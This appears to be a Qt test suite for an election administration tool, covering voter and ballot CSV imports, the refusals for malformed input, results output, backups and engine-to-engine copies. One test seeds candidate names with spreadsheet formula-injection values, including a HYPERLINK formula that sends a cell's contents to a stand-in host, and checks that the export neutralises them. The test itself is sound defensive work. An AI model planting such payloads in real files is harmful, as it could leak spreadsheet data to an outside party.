// pollaris-admin as a separate process against elections in files and on a server:
// creating, importing the ballot and voters, what it refuses, results, backups, copies
// between engines.

#include "TestSupport.h"

#include "NewFile.h"
#include "screens/frmCountVotes.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QLabel>
#include <QListWidget>
#include <QRegularExpression>
#include <QSet>
#include <memory>

// Every row of every table, in the order the rows were added.
static QStringList everything(const ElectionFolder &e)
{
    QStringList all;
    for (const char *table : {"Positions", "CandInfo", "CandVote", "Users", "Administrators"})
        all << table + e.rows(QStringLiteral("SELECT * FROM %1 ORDER BY rowid").arg(table)).join("\n");
    return all;
}

static const QByteArray kHeader = "Position Code,Position Name,Candidate Code,Candidate Name,Student ID\n";
// A ballot begun on the panel: a position, a candidate with a tally, and a tally of no candidate.
static const QString kBegun = "INSERT INTO Positions VALUES ('SEC', 'Secretary');"
                              "INSERT INTO CandInfo VALUES ('OLD', 'Old Timer', '2020-1', 'SEC');"
                              "INSERT INTO CandVote VALUES ('OLD', 0), ('GHOST', 0);";
// A register with the row on line 4, around it a byte order mark, CRLF and LF, a quoted
// comma and quotes, outer blanks and a blank row.
static QByteArray registerWith(const QByteArray &row)
{
    return "\xEF\xBB\xBFName,Student ID,Password\r\n\"Reyes, Maria\",good-1,\"say \"\"hi\"\"\"\r\n"
           " Two  Blanks , good-2,p2\n" +
           row + "\r\nlast,good-3,p3\n,,\n";
}

class AdminToolTest : public QObject {
    Q_OBJECT
    std::unique_ptr<ElectionFolder> db;

    QString csv(const QByteArray &bytes)
    {
        QFile f(db->folder() + "/input.csv");
        return f.open(QIODevice::WriteOnly) && f.write(bytes) == bytes.size() ? f.fileName() : QString();
    }
    Run on(const QStringList &args, const QByteArray &input = {}) { return admin(args + db->toolArguments(), input); }

private slots:
    void initTestCase() { QVERIFY2(QFile::exists(qEnvironmentVariable("POLLARIS_ADMIN")), "POLLARIS_ADMIN not set"); }
    void initTestCase_data() { addEngineRows(); }
    void init()
    {
        FETCH_ENGINE(engine);
        db = std::make_unique<ElectionFolder>(engine);
    }

    void newCreatesAnElectionWithThePasswordFromStandardInput()
    {
        if (db->onServer())
            db->exec("DROP TABLE Positions, CandInfo, CandVote, Users, Administrators; DROP COLLATION pollaris_nocase");
        else
            QVERIFY(QFile::remove(db->file()));
        const Run r = on({"new", "--admin", "boss", "--password-stdin"}, "s3cret pass\r\n");
        QVERIFY2(r.exitCode == 0 && r.err.isEmpty(), qPrintable(r.err));
        QCOMPARE(everything(*db),
                 QStringList({"Positions", "CandInfo", "CandVote", "Users", "Administratorsboss|s3cret pass"}));
    }

    void newThroughTheInstalledLinkMakesTheFileAtItsEndForOwnerAndGroupOnly()
    {
        if (db->onServer())
            QSKIP("the link is the file engine's");
        // As installed: the tool's default file is a link into the data folder.
        const QString bin = db->folder() + "/bin", data = db->folder() + "/data";
        const QString tool = bin + "/pollaris-admin", link = bin + "/candpos4.mdb";
        QVERIFY(QDir().mkdir(bin) && QDir().mkdir(data) && QFile::copy(qEnvironmentVariable("POLLARIS_ADMIN"), tool));
        QVERIFY(QFile::link(data + "/candpos4.mdb", link));
        // A password on the command line is taken, with a warning.
        const Run r = runProgram(tool, {"new", "--admin", "boss", "--password", "pw"});
        QVERIFY2(r.exitCode == 0 && r.err.contains("warning: a password given with --password"), qPrintable(r.err));
        const QFileInfo file(data + "/candpos4.mdb");
        QVERIFY(file.isFile() && !file.isSymLink() && QFileInfo(link).isSymLink());
        QCOMPARE(file.permissions() & ~(QFile::ReadUser | QFile::WriteUser),
                 QFile::ReadOwner | QFile::WriteOwner | QFile::ReadGroup | QFile::WriteGroup);
        QCOMPARE(runProgram(tool, {"results"}).exitCode, 0);
        // A data folder that is missing: refused, and the link stays for the next try.
        QVERIFY(QDir(data).removeRecursively());
        QVERIFY(runProgram(tool, {"new", "--admin", "boss", "--password", "pw"}).exitCode > 0);
        QVERIFY(QFileInfo(link).isSymLink() && !QFile::exists(data));
    }

    // A command line refused: its status, its words on standard error (the file's, then the
    // server's after a '|' where they differ; after a '!', words that must not appear),
    // nothing on standard output, nothing made, changed or followed. ELECTION and TARGET name
    // this election as a command and as a place, NOWHERE a missing one; DIR/ is the folder,
    // with a file kept, a link to nowhere, a folder sub, a sparse huge.csv of 65 MiB and
    // input.csv holding the row's bytes. The election holds a ballot begun on the panel, an
    // account not logged in and what the row's SQL adds.
    void refusalsLeaveEverythingAsItWas_data()
    {
        QTest::addColumn<QStringList>("args");
        QTest::addColumn<int>("status");
        QTest::addColumn<QStringList>("words");
        QTest::addColumn<QByteArray>("bytes");
        QTest::addColumn<QString>("sql");
        const auto row = [](const char *name, const QStringList &args, int status, const QStringList &words,
                            const QByteArray &bytes = {}, const QString &sql = {}) {
            QTest::newRow(name) << args << status << words << bytes << sql;
        };
        const QStringList make{"new", "--admin", "x", "--password", "y"};
        const QString in = "DIR/input.csv",
                      missing = "no election file DIR/missing.mdb|\"pollaris_missing\" does not exist";
        const QByteArray good = "Name,Student ID,Password\nAnn,1,p\n";
        row("unknown command", {"vote"}, 2, {"unknown command 'vote'"});
        row("new over the election", make + QStringList{"ELECTION"}, 1, {"already exists|already holds an election"});
        row("new at a link", make + QStringList{"DIR/link"}, 1, {"DIR/link is a symbolic link"});
        row("new, no administrator", {"new", "NOWHERE"}, 1, {"no administrator name given; nothing was created"});
        row("new, nothing on standard input", {"new", "--admin", "x", "--password-stdin", "DIR/new.mdb"}, 1,
            {"DIR/new.mdb: no password on standard input; nothing was created"});
        row("password in a connection string", {"results", "--server", "postgresql://u:pw@localhost/x"}, 2,
            {"pollaris-admin results: The connection string holds a password. Put the password in ~/.pgpass"});
        row("results of no election", {"results", "NOWHERE"}, 1, {missing});
        row("import into no election", {"import-voters", in, "NOWHERE"}, 1, {missing}, good);
        row("backup of no election", {"backup", "DIR/copy.mdb", "NOWHERE"}, 1, {missing});
        row("backup to a folder", {"backup", "DIR/sub", "ELECTION"}, 1, {"DIR/sub is a folder"});
        row("copy over a file", {"copy", "TARGET", "DIR/kept"}, 1, {"DIR/kept already exists"});
        row("report over a file", {"report", "--out", "DIR/kept", "ELECTION"}, 1,
            {"DIR/kept already exists; it was left untouched"});
        row("slips over a file", {"slips", "--out", "DIR/kept", "ELECTION"}, 1, {"DIR/kept"});
        row("slips at a link", {"slips", "--out", "DIR/link", "ELECTION"}, 1, {"DIR/link"});
        row("slips at a folder", {"slips", "--out", "DIR/sub", "ELECTION"}, 1, {"DIR/sub"});
        row("slips of nobody", {"slips", "--out", "DIR/none.pdf", "--not-logged-in", "ELECTION"}, 1,
            {"no account that has not logged in yet; nothing was written"}, {}, "UPDATE Users SET HasVoted = true");

        // A register is taken whole or not at all; a refused one names the line of each fault.
        const QStringList voters{"import-voters", in, "ELECTION"};
        const auto fault = [&](const char *name, const QByteArray &bytes, const QString &words) {
            row(name, voters, 1, {in + " line " + words, "nothing was imported"}, bytes);
        };
        const auto fault4 = [&](const char *name, const QByteArray &row, const QString &words) {
            fault(name, registerWith(row), "4: " + words);
        };
        row("a register too large", {"import-voters", "DIR/huge.csv", "ELECTION"}, 1,
            {"DIR/huge.csv is larger than 64 MiB"});
        row("a line too long", {"import-voters", "/dev/zero", "ELECTION"}, 1,
            {"/dev/zero line 1: the line is longer than 64 KiB"});
        fault4("empty password", "Ann,2026201,\"\"", "the password is empty");
        fault4("long id", "Ann,123456789012345678901,pw", "the student ID is longer than 20 characters");
        fault4("two fields", "Ann,2026201", "2 fields, expected 3");
        fault4("registered, non-ASCII case", "Ann,äb,pw", "student ID 'äb' is already registered");
        fault4("repeated in file, other case", "Ann,GOOD-1,pw", "student ID 'GOOD-1' repeats the one on line 2");
        fault4("unclosed quote", "Ann,2026201,\"pw", "a quoted field is not closed");
        fault4("stray quote", "An\"n,2026201,pw", "a quote inside an unquoted field");
        fault4("nul", QByteArray("ab\0cd,2026201,pw", 16), "the name holds a control character (U+0000)");
        fault4("line break", "Ann,2026201,\"p\nw\"", "the password holds a control character (U+000A)");
        // No header: refused, so that its first voter is not taken for one.
        const QString header = "1: the first row must be the header naming the columns Name, Student ID (or "
                               "Username) and Password";
        fault("no header", "Ann,1,p\nBo,2,q\n", header);
        fault("a column twice", "Name,Student ID,Student ID\nAnn,1,p\n", header);
        // Not UTF-8: the line of the first bad byte.
        fault("not UTF-8", "Name,Username,Password\nAnn,1,p\nB\xE9o,2,q\n",
              "3: the file is not UTF-8 text; in the spreadsheet, save it as \"CSV UTF-8\"");
        // Passwords come from one place only.
        const QStringList generate{"import-voters", "--passwords", "generate", in, "ELECTION"};
        row("generate, with a Password column", generate, 1,
            {in + " line 1: the register has a Password column, but --passwords generate makes the passwords"}, good);
        fault("no Password column, none generated", "Name,Student ID\nAnn,1\n",
              header + " (or give --passwords generate to make the passwords)");
        row("generate, a row with a password", generate, 1, {in + " line 3: 3 fields, expected 2 (name, student ID)"},
            "Name,Student ID\nAnn,1\nBo,2,pw\n");
        row("passwords from elsewhere", {"import-voters", "--passwords", "random", in, "ELECTION"}, 2,
            {"--passwords takes 'column' or 'generate', not 'random'"}, good);

        // So is a ballot. One faulty row on line 4, after P/Pres with A and B: the only fault.
        const auto ballot = [&](const char *name, const QByteArray &bytes, const QStringList &words,
                                const QString &sql = {}) {
            row(name, {"import-ballot", in, "ELECTION"}, 1, words + QStringList{"nothing was imported"}, bytes, sql);
        };
        const auto line4 = [&](const char *name, const QByteArray &bytes, const QString &words) {
            ballot(name, kHeader + "P,Pres,A,Ana,1\nP,Pres,B,Bo,2\n" + bytes + "\nVP,Vice President,C,Cy,3\n",
                   {in + " line 4: " + words, "1 fault(s)"});
        };
        line4("position code of 6", "ABCDEF,Head,X1,Xi,1", "the position code is longer than 5 characters");
        line4("candidate code of 9", "P,Pres,ABCDEFGHI,Xi,1", "the candidate code is longer than 8 characters");
        line4("name of 51", "P,Pres,X1," + QByteArray(51, 'n') + ",1",
              "the candidate name is longer than 50 characters");
        line4("position name of 51", "P9," + QByteArray(51, 'n') + ",X1,Xi,1",
              "the position name is longer than 50 characters");
        line4("student ID of 21", "P,Pres,X1,Xi,123456789012345678901", "the student ID is longer than 20 characters");
        line4("another name for a code", "p,Chief,X1,Xi,1", "position 'p' is named 'Chief' here but 'Pres' on line 2");
        line4("another name for a position on the ballot", "sec,Clerk,X1,Xi,1",
              "position 'sec' is on the ballot already, named 'Secretary', not 'Clerk'");
        line4("candidate code twice, other case", "P,Pres,a,Xi,1", "candidate code 'a' repeats the one on line 2");
        line4("candidate code on the ballot", "P,Pres,old,Xi,1",
              "candidate code 'old' is already taken by 'Old Timer'");
        line4("candidate code of a stray tally", "P,Pres,Ghost,Xi,1",
              "candidate code 'Ghost' already has a tally on the ballot");
        line4("candidate without a name", "P,Pres,X1,,1", "the candidate name is empty");
        line4("candidate without a student ID", "P,Pres,X1,Xi, ", "the student ID is empty");
        line4("no position code", ",Pres,X1,Xi,1", "the position code is empty");
        line4("four fields", "P,Pres,X1,Xi", "4 fields, expected 5");
        line4("a tab", "P,Pres,X1,\"X\ti\",1", "the candidate name holds a control character (U+0009)");
        line4("ballot, unclosed quote", "P,Pres,X1,\"Xi,1", "a quoted field is not closed");
        // A header it cannot read.
        const QString must = in + " line 1: the first row must be the header naming the columns Position Code, "
                                  "Position Name, Candidate Code, Candidate Name and Student ID, in any order ";
        ballot("no student ID", "Position Code,Position Name,Candidate Code,Candidate Name\nP,Q,R,S\n",
               {must + "(no column Student ID)"});
        ballot("a column of no use", kHeader.chopped(1) + ",Notes\n",
               {must + "(the column 'Notes' is none of the ballot's)"});
        ballot("a ballot column twice", "PosID,Position ID,Position Name,Candidate Code,Candidate Name,Student ID\n",
               {in, "(two columns are the Position Code)"});
        ballot("ballot not UTF-8", kHeader + "P,Caf\xE9,R,S,1\n", {in + " line 2: the file is not UTF-8 text"});
        // Below its header, nothing: refused rather than taken for an empty ballot.
        ballot("no rows", kHeader + ",,,,\n", {in, "holds no position below its header"});
        // Many faults: the first 20 are listed, then how many more.
        QByteArray many = kHeader;
        for (int i = 0; i < 25; ++i)
            many += "P,Head,C" + QByteArray::number(i) + ",,1\n";
        ballot("25 faults", many, {"25 fault(s)", in + " line 21:", "!" + in + " line 22:", "... and 5 more"});
        // Once any vote is cast the ballot stays as the voters saw it.
        const QByteArray sure = kHeader + "P,Pres,A,Ana,1\nSEC,Secretary,B,Bo,2\n";
        const QString begun = "the ballot cannot change once voting has begun";
        ballot("a tally", sure, {"already holds votes (1 tally(ies) not 0, 0 account(s) logged in)", begun},
               "UPDATE CandVote SET NumVotes = 1 WHERE CandID = 'OLD'");
        ballot("a voter logged in", sure, {"already holds votes (0 tally(ies) not 0, 1 account(s) logged in)", begun},
               "INSERT INTO Users VALUES ('V2', 'u2', 'p', true)");
    }

    void refusalsLeaveEverythingAsItWas()
    {
        QFETCH(QStringList, args);
        QFETCH(int, status);
        QFETCH(QStringList, words);
        QFETCH(QByteArray, bytes);
        QFETCH(QString, sql);
        const QString dir = db->folder() + '/';
        QFile kept(dir + "kept"), huge(dir + "huge.csv");
        QVERIFY(QFile::link(dir + "pointed", dir + "link") && QDir(dir).mkdir("sub") &&
                kept.open(QIODevice::WriteOnly) && kept.write("kept") == 4 && kept.flush() &&
                huge.open(QIODevice::WriteOnly) && huge.resize(65 << 20) && !csv(bytes).isEmpty());
        db->exec(kBegun + "INSERT INTO Users VALUES ('Old', 'ÄB', 'x', false);" + sql);
        const QStringList nowhere = db->onServer() ? QStringList{"--server", db->server() + " dbname=pollaris_missing"}
                                                   : QStringList{dir + "missing.mdb"};
        QStringList line;
        for (const QString &arg : args)
            line << (arg == "ELECTION"  ? db->toolArguments()
                     : arg == "NOWHERE" ? nowhere
                     : arg == "TARGET"  ? QStringList{db->target()}
                                        : QStringList{QString(arg).replace("DIR/", dir)});
        const auto state = [&] { // the election, what the folder and sub hold, the kept file
            QFile f(kept.fileName());
            const auto all = QDir::AllEntries | QDir::System | QDir::Hidden | QDir::NoDotAndDotDot;
            return everything(*db) << QDir(dir).entryList(all).join('|') << QDir(dir + "sub").entryList(all).join('|')
                                   << QString::fromUtf8(f.open(QIODevice::ReadOnly) ? f.readAll() : "unreadable");
        };
        const QStringList before = state();
        const Run r = admin(line);
        QCOMPARE(r.exitCode, status);
        const int part = db->onServer() ? -1 : 0;
        for (const QString &w : words) {
            const bool absent = w.startsWith('!');
            QVERIFY2(r.err.contains(w.mid(absent).section('|', part, part).replace("DIR/", dir)) != absent,
                     qPrintable(w + ": " + r.err));
        }
        QCOMPARE(r.out, QString());
        QCOMPARE(state(), before);
    }

    // Registers taken whole, the accounts there kept: one with its columns in another order,
    // by other names, separated by semicolons; a long one whose passwords are generated,
    // each its own, of 10 characters without look-alikes (0 o, 1 l i, 2 z, 5 s, 6 8 b, 9 g
    // q), evenly enough that the first 2,500 characters use all 23, none shown.
    void importTakesGoodRegisters()
    {
        db->exec("INSERT INTO Users VALUES ('Old', 'ÄB', 'x', true)");
        const QList<QPair<QByteArray, int>> good{
            {registerWith("Jürgen Ärger,ÄB1,été"), 4},
            {" PASSWORD ;username; Name \r\n x1 ; A103 ;Ann Lee\r\n\r\n;;\r\npw2;B7;Bo\r\n;;\r\n", 2}};
        for (const auto &[bytes, n] : good) {
            const Run r = on({"import-voters", csv(bytes)});
            QVERIFY2(r.exitCode == 0 && r.out.contains(QStringLiteral("Imported %1 voter(s)").arg(n)) &&
                         r.out.contains("outer blanks of 2 field(s)"),
                     qPrintable(r.err));
        }
        const QString users = "SELECT Name, Username, Password, HasVoted FROM Users ORDER BY rowid";
        QCOMPARE(db->rows(users),
                 QStringList({"Old|ÄB|x|1", "Reyes, Maria|good-1|say \"hi\"|0", "Two  Blanks|good-2|p2|0",
                              "Jürgen Ärger|ÄB1|été|0", "last|good-3|p3|0", "Ann Lee|A103|x1|0", "Bo|B7|pw2|0"}));

        const QString easy = "acdefhjkmnprtuvwxy34679";
        QByteArray bytes = "Name;Student ID\r\n";
        for (int i = 0; i < 10001; ++i)
            bytes += "Voter " + QByteArray::number(i) + ";s" + QByteArray::number(i) + "\r\n";
        const Run r = on({"import-voters", "--passwords", "generate", csv(bytes)});
        QVERIFY2(r.exitCode == 0 && r.out.contains("Imported 10001 voter(s)") && r.out.contains("pollaris-admin slips"),
                 qPrintable(r.err));
        const QStringList generated = db->rows(users).mid(7);
        QCOMPARE(generated.size(), 10001);
        QStringList passwords;
        for (int i = 0; i < generated.size(); ++i) {
            passwords << generated.at(i).section('|', 2, 2);
            QCOMPARE(generated.at(i), QStringLiteral("Voter %1|s%1|%2|0").arg(i).arg(passwords.last()));
            QVERIFY2(!r.out.contains(passwords.last()) && !r.err.contains(passwords.last()), "a password was shown");
        }
        const QString all = passwords.join(' ') + ' ', first = passwords.mid(0, 250).join(QString());
        QVERIFY(QRegularExpression(QStringLiteral("^(?:[%1]{10} )+$").arg(easy)).match(all).hasMatch());
        QCOMPARE(QSet<QString>(passwords.begin(), passwords.end()).size(), 10001);
        QCOMPARE(QSet<QChar>(first.begin(), first.end()).size(), easy.size());
        // On the server the grown register is measured again at once, so that it is read through its index.
        if (db->onServer())
            QCOMPARE(db->value("SELECT last_analyze IS NOT NULL FROM pg_stat_user_tables WHERE relname = 'users'"), 1);
    }

    // Positions and candidates in the file's order; columns by other names, in another
    // order, separated by semicolons; a position repeated in either letter case; a
    // position alone; a candidate for a position begun on the panel. Accounts that
    // have not logged in do not stop it.
    void importBallotAddsPositionsAndCandidatesEachWithATallyOfZero()
    {
        db->exec(kBegun + "INSERT INTO Users VALUES ('V1', 'u1', 'p', false), ('V2', 'u2', 'p', NULL)");
        const Run r = on({"import-ballot", csv("\xEF\xBB\xBF"
                                               "Candidate; Position ID ;STUDENT_NUMBER;Position;Candidate ID\r\n"
                                               "Ana Cruz;PRES;2026-01;President;A1\r\n"
                                               "\"Li; Bo\";pres;2026-02;President;b1\r\n"
                                               " محمد علي ;VP;2026-03;Vice President;C1\r\n"
                                               ";;;;\r\n"
                                               "王小明;sec;2026-04;Secretary;D1\r\n"
                                               ";TRS;;Treasurer;\r\n"
                                               "Émile Zola;VP; 2026-05;Vice President; E1\r\n")});
        QVERIFY2(r.exitCode == 0 && r.out.contains("Added 3 position(s) and 5 candidate(s)") &&
                     r.out.contains("took new candidates: SEC") && r.out.contains("outer blanks of 3 field(s)"),
                 qPrintable(r.out + r.err));
        QCOMPARE(db->rows("SELECT PosID, PosName FROM Positions ORDER BY rowid"),
                 QStringList({"SEC|Secretary", "PRES|President", "VP|Vice President", "TRS|Treasurer"}));
        // Each candidate on the position's code as stored, whatever the case of the row.
        QCOMPARE(db->rows("SELECT CandID, CandName, StudentNum, PosID FROM CandInfo ORDER BY rowid"),
                 QStringList({"OLD|Old Timer|2020-1|SEC", "A1|Ana Cruz|2026-01|PRES", "b1|Li; Bo|2026-02|PRES",
                              "C1|محمد علي|2026-03|VP", "D1|王小明|2026-04|SEC", "E1|Émile Zola|2026-05|VP"}));
        QCOMPARE(db->rows("SELECT CandID, NumVotes FROM CandVote ORDER BY rowid"),
                 QStringList({"OLD|0", "GHOST|0", "A1|0", "b1|0", "C1|0", "D1|0", "E1|0"}));
    }

    // Ranked, most votes first, the tallies written in another order.
    void csvNeverHandsASpreadsheetAFormula()
    {
        const QString chr = db->onServer() ? "chr" : "char";
        db->exec(QString("INSERT INTO Positions VALUES ('+P', '=1+1');"
                         "INSERT INTO CandInfo VALUES ('@A', '=HYPERLINK(\"http://evil.example/\"&A1,\"Click\")', "
                         "'1', '+P'), ('B', '@SUM(1)', '2', '+P'), ('C', '-2+3', '3', '+P'), ('D', %1(9) || 'tab', '4',"
                         " '+P'), ('E', %1(13) || 'cr', '5', '+P'), ('F', 'Ann = Bo - 1', '6', '+P');"
                         "INSERT INTO CandVote VALUES ('F', -1), ('C', 4), ('@A', 6), ('E', 2), ('B', 5), ('D', 3)")
                     .arg(chr));
        QCOMPARE(on({"results", "--csv"}).out.split("\r\n"),
                 QStringList({"PosID,PosName,CandID,CandName,NumVotes",
                              "'+P,'=1+1,'@A,\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"Click\"\")\",6",
                              "'+P,'=1+1,B,'@SUM(1),5", "'+P,'=1+1,C,'-2+3,4", "'+P,'=1+1,D,'\ttab,3",
                              "'+P,'=1+1,E,\"'\rcr\",2", "'+P,'=1+1,F,Ann = Bo - 1,-1", ""}));
    }

    void resultsEqualTheResultsScreen()
    {
        // Codes in either case, a tally twice, a negative tally, a position with no candidates,
        // a tie whose tallies were written in another order than the candidates.
        db->exec(QStringLiteral(
            "INSERT INTO Positions VALUES ('P1', 'Head, \"Chief\"'), ('p2', 'Secretary'), ('P3', 'Nobody');"
            "INSERT INTO CandInfo VALUES ('A', 'Ana Cruz', '1', 'P1'), ('B', 'Li, Bo', '2', 'p1'), ('F', 'Fay', '6',"
            " 'P1'), ('C', 'Carla Villanueva de los Santos', '3', 'P1'), ('D', 'Dee', '4', 'P2'), ('E', 'Émile', '5',"
            " 'p2'); INSERT INTO CandVote VALUES ('C', 12), ('B', 40), ('A', 12), ('D', 0), ('E', 33000), ('b', 7),"
            " ('F', -1);"));
        startProgramOn(*db);
        frmCountVotes &screen = Shell::Show<frmCountVotes>();
        QString shown;
        for (const QString &code : db->rows("SELECT PosID FROM Positions ORDER BY rowid")) {
            screen.GetnDisplay(code);
            shown += (shown.isEmpty() ? "" : "\n") + screen.lblTitle->text().remove("Voting Results for ") + "\n";
            for (int i = 0; i < screen.lstResults->count(); ++i)
                shown += screen.lstResults->item(i)->text() + "\n";
        }
        Shell::reset();
        QCOMPARE(on({"results"}).out, shown);
    }

    // Once voting has begun, the copy says it is as secret as the election; whatever
    // appears at its place while it is written stays as it is.
    void backupWarnsOfVotesAndKeepsWhatAppearsAtItsPlace()
    {
        if (db->onServer())
            QSKIP("the copy's target is a file either way");
        const QString dir = db->folder() + '/';
        db->exec("INSERT INTO CandVote VALUES ('A', 1)");
        const Run r = on({"backup", dir + "voted.mdb"});
        QVERIFY2(r.exitCode == 0 && r.out.contains("already holds votes"), qPrintable(r.out));
        for (const QString late : {"file", "link"}) {
            const QString target = dir + "late-" + late;
            const QString failure = NewFile::create(target, [&](const QString &partial) {
                QFile copy(partial), other(target);
                if (!copy.open(QIODevice::WriteOnly) || copy.write("copy") != 4)
                    return QStringLiteral("cannot write");
                if (late == "file" ? !other.open(QIODevice::WriteOnly) : !QFile::link(dir + "elsewhere", target))
                    return QStringLiteral("cannot put something in the way");
                return QString();
            });
            QVERIFY2(failure.contains(target) && failure.contains("appeared while"), qPrintable(failure));
            QVERIFY(!QFile::exists(dir + "elsewhere"));
        }
        QCOMPARE(QDir(dir).entryList({".*partial*"}, QDir::Files | QDir::Hidden), QStringList());
        QCOMPARE(QFileInfo(dir + "late-file").size(), 0);
    }

    // Server to new file and back to an empty database, every row and field in order;
    // nothing at a target is overwritten; a copy failing half-way leaves no tables.
    void copyBetweenFileAndServerBothWaysLosesNothing()
    {
        if (!db->onServer())
            QSKIP("needs both engines: runs in the server's row");
        db->exec("INSERT INTO Positions VALUES ('P1','Head, \"Chief\"'),('p2','Sécretary');"
                 "INSERT INTO CandInfo VALUES ('A','Ana O''Cruz','1','P1'),('B',NULL,'2','p2');"
                 "INSERT INTO CandVote VALUES ('A',2147483647),('B',-1),('b',NULL);"
                 "INSERT INTO Users VALUES ('Ärger','ä1','pw',true),('N','n2',NULL,false),('F','f3','x',NULL);"
                 "DELETE FROM CandInfo WHERE CandID = 'A'; INSERT INTO CandInfo VALUES ('A','Ana O''Cruz','1','P1');"
                 "SELECT pollaris_log_append('desk 1', 'candidate A deleted'), pollaris_log_append('desk 2', 'ended');"
                 "SELECT pollaris_count_failure('voter log-ins failed') FROM generate_series(1, 3)");
        const auto recordOf = [](const ElectionFolder &e) {
            return e.rows("SELECT seq, at, station, what, hash FROM pollaris_log ORDER BY seq");
        };
        const QStringList original = everything(*db), record = recordOf(*db);
        ElectionFolder file;
        QVERIFY(QFile::remove(file.file()));
        Run r = admin({"copy", db->server(), file.file()});
        QVERIFY2(r.exitCode == 0 && r.out.contains("2 Positions, 2 CandInfo, 3 CandVote, 3 Users, 1 Administrators"),
                 qPrintable(r.err + r.out));
        QCOMPARE(everything(file), original);
        // The election's record goes with it entry for entry, and its chain goes on
        // with the copy; so do the counts of failed log-ins.
        QStringList copied = recordOf(file);
        QCOMPARE(copied.mid(0, 2), record);
        QCOMPARE(copied.size(), 3);
        QVERIFY2(copied.last().contains("copied from the election on the server"), qPrintable(copied.last()));
        QCOMPARE(file.rows("SELECT what || '=' || count FROM pollaris_counts"), QStringList{"voter log-ins failed=3"});
        r = admin({"log", "--verify", file.file()});
        QVERIFY2(r.exitCode == 0 && r.out.contains("holds 3 entries"), qPrintable(r.out + r.err));
        // As private as a backup: it holds every password and vote.
        QCOMPARE(QFile(file.file()).permissions() & ~(QFile::ReadUser | QFile::WriteUser),
                 QFile::ReadOwner | QFile::WriteOwner);

        // Nor is a server's election (a file's places are tried with the other refusals).
        r = admin({"copy", file.file(), db->server()});
        QVERIFY2(refused(r, "already holds an election"), qPrintable(r.err));
        QCOMPARE(everything(*db), original);

        // Back to an empty database.
        const QString drop = "DROP TABLE Positions, CandInfo, CandVote, Users, Administrators, pollaris_units, "
                             "pollaris_ballots, pollaris_counts, pollaris_log";
        db->exec(drop);
        r = admin({"copy", file.file(), db->server()});
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        QCOMPARE(everything(*db), original);
        copied = recordOf(*db);
        QCOMPARE(copied.mid(0, 3), recordOf(file));
        QCOMPARE(copied.size(), 4);
        QCOMPARE(db->rows("SELECT what || '=' || count FROM pollaris_counts"), QStringList{"voter log-ins failed=3"});
        r = on({"log", "--verify"});
        QVERIFY2(r.exitCode == 0 && r.out.contains("holds 4 entries"), qPrintable(r.out + r.err));
        // Every session on the election is ended by the server when it sits idle in the
        // middle of a save, whoever opened it.
        QCOMPARE(db->value("SELECT array_to_string(setconfig, ',') FROM pg_db_role_setting "
                           "WHERE setdatabase = (SELECT oid FROM pg_database WHERE datname = current_database())")
                     .toString(),
                 QStringLiteral("idle_in_transaction_session_timeout=2s"));

        // A value the server refuses (a flag of 2) stops the copy with no table made.
        file.exec("UPDATE Users SET HasVoted = 2 WHERE Username = 'n2'");
        db->exec(drop);
        r = admin({"copy", file.file(), db->server()});
        QVERIFY2(refused(r, "nothing was copied"), qPrintable(r.err));
        QCOMPARE(db->value("SELECT count(*) FROM pg_class WHERE relnamespace = current_schema()::regnamespace").toInt(),
                 0);
    }
};

POLLARIS_TEST_MAIN(AdminToolTest)
#include "tst_admintool.moc"